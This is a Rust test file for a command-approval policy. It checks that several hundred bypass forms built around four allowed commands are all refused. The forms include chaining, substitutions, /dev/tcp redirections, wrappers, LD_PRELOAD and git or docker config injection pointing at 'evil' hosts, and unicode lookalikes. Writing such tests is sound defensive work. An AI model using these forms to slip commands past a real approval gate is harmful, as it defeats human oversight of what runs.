//! Forms that a hostile author would try behind the four rules that the design
//! names. None of them may pass; a person is asked instead.
#![allow(missing_docs, clippy::unwrap_used, reason = "helpers of tests; clippy.toml lets the tests themselves unwrap")]

use countersign_core::{Class, CommandText, HostId, Name};
use countersign_policy::{Asked, Body, Examined, Kind, Now, Policy, Rule, Ruling, Settings, Target};

const PATTERNS: [&str; 4] = ["docker pull ghcr.io/myorg/api:*", "git status", "ls **", "systemctl status *"];

fn policy() -> Policy {
    let name: Name = "ops".parse().unwrap();
    let mut policy = Policy::new(Settings::default()).unwrap();
    policy.set_target(Target { host: HostId::from_random([0; 16]), name: name.clone(), class: Class::High });
    for (id, pattern) in (1..).zip(PATTERNS) {
        // On a terminal too, where the rule may say so: the wider case.
        let written = |on_terminal| Body { patterns: vec![pattern.to_owned()], on_terminal, ..Body::default() };
        let checked = |body| Rule::check(id, Kind::Standing, name.clone(), name.clone(), body, None);
        policy.add(checked(written(true)).or_else(|_| checked(written(false))).unwrap()).unwrap();
    }
    policy
}

/// In every inner shell, with and without a terminal.
fn passes(policy: &Policy, line: &str) -> bool {
    let Ok(text) = CommandText::parse(line.as_bytes()) else { return false };
    let shells = ["bash", "dash", "zsh", "fish", "tcsh"];
    shells.into_iter().flat_map(|shell| [(shell, false), (shell, true)]).any(|(shell, terminal)| {
        let asked = Asked {
            whole: Some(&text),
            shell,
            terminal,
            agent: "a",
            host: HostId::from_random([0; 16]),
            session: "",
            cwd: "/",
            words_known: true,
        };
        let now = Now { at_ms: 0, uses: &|_| 0 };
        let verdict = policy.judge(&asked, &Examined::of(line, shell, "/", &[]), &[], &now);
        matches!(verdict.ruling, Ruling::Pass(_))
    })
}

/// `%` in a form stands for each of the good lines.
const GOOD: [&str; 4] = ["docker pull ghcr.io/myorg/api:sha-1", "git status", "ls -la /srv", "systemctl status nginx"];

const AROUND: &[&str] = &[
    // Separators, also those that only look like blanks, and what some readers take for line ends.
    "%;id",
    "%\nid",
    "%\r\nid",
    "%\rid",
    "%\u{b}id",
    "%\u{c}id",
    "%\u{85}id",
    "%\u{2028}id",
    "%\u{2029}id",
    "%|&id",
    "%;;id",
    "%&!id",
    "%&|id",
    "%\u{ff1b}id",
    "%\u{ff5c}id",
    "%\u{37e}id",
    "id;%",
    "id\n%",
    "id&&%",
    "% &",
    "% & %",
    "(%)",
    "{ %; }",
    "! %",
    "%;",
    "%;\n;id",
    "%\\\n;id",
    "%|tee x",
    "%||id",
    "id|%",
    // Substitutions and expansions.
    "% $(id)",
    "% `id`",
    "% ${x}",
    "% ${x:=$(id)}",
    "% $((1))",
    "% $[1]",
    "% <(id)",
    "% >(id)",
    "% =(id)",
    "% \"$(id)\"",
    "% \"`id`\"",
    "% $'\\x3bid'",
    "% $\"x\"",
    "% {a,b}",
    "% {1..3}",
    "% ~",
    "% ~root/x",
    "% ~+",
    "% *",
    "% ?",
    "% [a-z]",
    "% @(a|b)",
    "% !(a)",
    "% **/x",
    "% !!",
    "% !$",
    "% ^a^b",
    "% =ls",
    "% %1;id",
    "${x:-%}",
    "$x %",
    "eval %",
    "\"$(%)\"",
    // Redirections.
    "% > x",
    "% >> x",
    "% >| x",
    "% &> x",
    "% >& x",
    "% <> x",
    "% 3> x",
    "% {fd}> x",
    "% < x",
    "% << E\nid\nE",
    "% <<< x",
    "% <<-E\nE",
    "% 2>x",
    "% 1>&3",
    "% 2>&1x",
    "% >&-",
    "% >/dev/tcp/h/1",
    "> x %",
    "% >/dev/null/../x",
    "% > '/dev/null '",
    "% >/dev/./null/../../etc/x",
    "%>\\\n/etc/x",
    // Words before: wrappers, assignments, keywords.
    "env %",
    "env -i %",
    "env -S '%'",
    "command %",
    "builtin %",
    "exec %",
    "sudo %",
    "doas %",
    "su -c '%'",
    "xargs %",
    "time %",
    "time -p %",
    "coproc %",
    "function f { %; }; f",
    "f() { %; }; f",
    "if %; then id; fi",
    "while %; do id; done",
    "for x in 1; do %; done",
    "case x in x) %;; esac",
    "select x in 1; do %; done",
    "[[ x ]] && %",
    "[ x ] && %",
    "test x && %",
    ": && %",
    ". % ",
    "source %",
    "trap '%' EXIT",
    "alias x=id\n%",
    "alias ls=id git=id docker=id systemctl=id\n%",
    "set -x; %",
    "shopt -s expand_aliases; %",
    "cd /tmp && %",
    "pushd /tmp; %",
    "hash -p /tmp/x git; %",
    "enable -f x ls; %",
    "unset PATH; %",
    "export PATH=.; %",
    "PATH=. %",
    "LD_PRELOAD=x %",
    "LD_AUDIT=x %",
    "GIT_PAGER=id %",
    "GIT_SSH_COMMAND=id %",
    "GIT_DIR=/tmp/x %",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=id %",
    "GIT_EXTERNAL_DIFF=id %",
    "GIT_EXEC_PATH=/tmp %",
    "DOCKER_HOST=tcp://evil %",
    "DOCKER_CONFIG=/tmp %",
    "PAGER=id %",
    "SYSTEMD_PAGER=id %",
    "SYSTEMD_LESS=x %",
    "LESSOPEN='|id' %",
    "BASH_ENV=x %",
    "ENV=x %",
    "IFS=x %",
    "HOME=/tmp %",
    "X=1 %",
    "A+=1 %",
    "A[0]=1 %",
    "X=$(id) %",
    "strace %",
    "ltrace %",
    "setsid %",
    "stdbuf -o0 %",
    "ionice %",
    "chroot / %",
    "unshare %",
    "nsenter %",
    "script -c '%'",
    "watch '%'",
    "ssh h '%'",
    "busybox %",
    "ld.so %",
    "nohup env %",
    "timeout 5 sudo %",
    "nice --adjustment=5 env %",
    "timeout -k 5 5 xargs %",
    "nice -n5 %",
    "timeout --signal=KILL 5 env %",
    "parallel %",
    "sh -x -c '%'",
    "sh -c '%; id'",
    "sh -c '%' x",
    "bash -lc '%'",
    "bash --rcfile x -c '%'",
    "bash -c '%' -- id",
    "sh -c 'sh -c \"%;id\"'",
    "bash -c '%' > x",
    "X=1 sh -c '%'",
    "dash -ic '%'",
    "sh -c \"%\"$(id)",
    // Names that only look alike.
    "./%",
    "/tmp/%",
    "\u{200b}%",
    "\u{feff}%",
    "\u{202e}%",
    "%\u{a0}x",
    "% \u{ad}x",
    "% caf\u{e9}",
    "% \u{fe0f}",
    // Control characters.
    "%\u{1b}[2K",
    "%\u{7f}",
    "%\u{0}",
    "%\u{8}\u{8}id",
    "% \u{9b}x",
    "% '\u{7}'",
];

/// Options and operands by which these programs run or write something else.
const OPERANDS: &[&str] = &[
    "git -c alias.status=!id status",
    "git -c core.fsmonitor=id status",
    "git -c core.pager=id status",
    "git --config-env=core.pager=X status",
    "git -C /tmp/x status",
    "git --git-dir=/tmp/x status",
    "git --work-tree=/ status",
    "git --exec-path=/tmp status",
    "git --paginate status",
    "git -p status",
    "git status -uall",
    "git status --porcelain",
    "git status .",
    "git  stat''us x",
    "git status; git push",
    "git fetch --upload-pack=id x",
    "git log --output=x",
    "git 'status '",
    "git 'status\tx'",
    "git \"status\nid\"",
    "'git status'",
    "GIT status",
    "git STATUS",
    "git-status",
    "docker pull ghcr.io/myorg/api",
    "docker pull ghcr.io/myorg/api:",
    "docker pull ghcr.io/myorg/api:x y",
    "docker pull ghcr.io/myorg/api:x/../../evil:1",
    "docker pull ghcr.io/myorg/api:../evil:1",
    "docker pull ghcr.io/myorg/api:x/y",
    "docker pull ghcr.io/myorg/apix:1",
    "docker pull evil.io/ghcr.io/myorg/api:1",
    "docker pull -a ghcr.io/myorg/api:1",
    "docker pull --disable-content-trust ghcr.io/myorg/api:1",
    "docker -H tcp://evil pull ghcr.io/myorg/api:1",
    "docker --config /tmp pull ghcr.io/myorg/api:1",
    "docker pull 'ghcr.io/myorg/api:1 -a'",
    "docker pull 'ghcr.io/myorg/api:1;id'",
    "docker pull 'ghcr.io/myorg/api:$(id)'",
    "docker pull ghcr.io/myorg/api:1\\;id",
    "docker pull ghcr.io/myorg/api:'*'",
    "docker pull ghcr.io/myorg/api:1 --quiet",
    "docker run ghcr.io/myorg/api:1",
    "systemctl status -H evil",
    "systemctl status --host=evil",
    "systemctl status -Mx",
    "systemctl status --root=/tmp",
    "systemctl status --no-pager nginx",
    "systemctl -H evil status nginx",
    "systemctl status",
    "systemctl status a b",
    "systemctl status 'a b'",
    "systemctl status +x",
    "systemctl restart nginx",
    "systemctl status nginx -p x",
    "systemctl edit nginx",
    "ls 'a;b'",
    "ls 'a|b'",
    "ls \"a b\"",
    "ls \\$HOME",
    "ls '$HOME'",
    "ls 'x\u{1b}'",
    "ls ''",
    "ls '~'",
    "ls '*'",
    "lsblk",
    "\\ls;id",
    "l's'x",
    "ls=id",
    "ls() (id)",
    "ls()id",
];

#[test]
fn the_controls_pass() {
    let policy = policy();
    for line in GOOD {
        assert!(passes(&policy, line), "{line}");
    }
    for line in [
        "ls",
        "ls --color=always /srv",
        "ls -- x",
        "\\ls",
        "l's' x",
        "git  'status'",
        "docker pull ghcr.io/myorg/api:v1.2",
    ] {
        assert!(passes(&policy, line), "{line}: means what the rule means");
    }
}

#[test]
fn nothing_around_a_good_line_passes() {
    let policy = policy();
    // What is one command of these rules again, or ends the line: meant.
    let meant = ["%;"];
    let passed: Vec<String> = AROUND
        .iter()
        .filter(|form| !meant.contains(form))
        .flat_map(|form| GOOD.map(|good| form.replace('%', good)))
        .filter(|line| passes(&policy, line))
        .collect();
    assert!(passed.is_empty(), "{passed:#?}");
    assert!(AROUND.len() * GOOD.len() > 600, "{}", AROUND.len());
}

#[test]
fn no_other_operand_passes() {
    let policy = policy();
    let passed: Vec<_> = OPERANDS.iter().filter(|line| passes(&policy, line)).collect();
    assert!(passed.is_empty(), "{passed:#?}");
}
